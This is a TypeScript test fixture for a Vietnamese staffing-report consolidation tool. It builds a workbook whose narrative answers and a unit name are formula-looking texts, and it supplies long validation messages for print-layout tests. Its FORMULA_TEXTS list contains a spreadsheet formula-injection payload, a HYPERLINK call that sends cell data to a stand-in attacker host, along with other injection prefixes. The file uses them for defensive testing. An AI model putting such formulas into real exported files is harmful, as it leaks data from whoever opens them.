/**
 * Shared inputs for the spreadsheet-text and print-layout tests (unit and LibreOffice): text that
 * looks like a formula, a consolidated workbook carrying it, and long validation messages.
 */
import { buildConsolidatedReport, textFields } from '../../functions/core/consolidation/report';
import { writeConsolidatedWorkbook } from '../../functions/core/consolidation/workbook';
import type { ValidationIssue } from '../../functions/core/model';
import { loadForm, makeUnits, randomValues, rng } from '../unit/consolidation/fixtures';

export const FORMULA_TEXTS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")', '+1', '-2', '@SUM(A1)', '\tX', '\rX'];

/** A consolidated workbook where the units' narrative answers are the formula-looking texts and unit 2 is named "@SUM(A1)". */
export async function workbookWithFormulaText(): Promise<Buffer> {
  const form = loadForm('sap-xep-bo-may');
  const [u1, u2] = makeUnits(2);
  u2!.name = '@SUM(A1)';
  const fields = textFields(form);
  if (fields.length * 2 < FORMULA_TEXTS.length) throw new Error('the form has too few narrative fields for the formula texts');
  const latest = [u1!, u2!].map((unit, i) => {
    const values = randomValues(form, unit, rng(7 + i));
    fields.forEach((f, j) => (values.fields[f.key] = FORMULA_TEXTS[i * fields.length + j] ?? 'Ý kiến thường'));
    return { unitCode: unit.code, uploadId: `up${i}`, receivedAt: '2026-03-10T01:00:00Z', late: false, values, warnings: [] };
  });
  const previousLatest = [{ ...latest[0]!, values: { fields: Object.fromEntries(Object.entries(latest[0]!.values.fields).map(([k, v]) => [k, typeof v === 'number' ? v + 1000 : v])), tables: {} } }];
  const report = buildConsolidatedReport({ form, period: '2026-Q1', units: [u1!, u2!], latest, submissions: [], previousLatest, now: new Date('2026-03-20T01:00:00Z') });
  return writeConsolidatedWorkbook(report);
}

/** Four issues with messages long enough to need several lines each. */
export function longIssues(cells: string[]): ValidationIssue[] {
  return cells.map((cell, i) => ({
    code: `RULE_DAI_${i + 1}`,
    severity: i % 2 ? 'warning' : 'error',
    sheet: 'Báo cáo',
    cell,
    message: `Mã số ${i + 1}: tổng số cán bộ, công chức, viên chức được giao theo quyết định của cấp có thẩm quyền phải bằng tổng các dòng chi tiết ở cột "Được giao" của các cơ quan, đơn vị trực thuộc; số liệu hiện tại chênh lệch ${i + 3} người, đề nghị đơn vị rà soát lại từng dòng chi tiết và đối chiếu với quyết định giao biên chế năm ${2026 - i}.`,
  }));
}

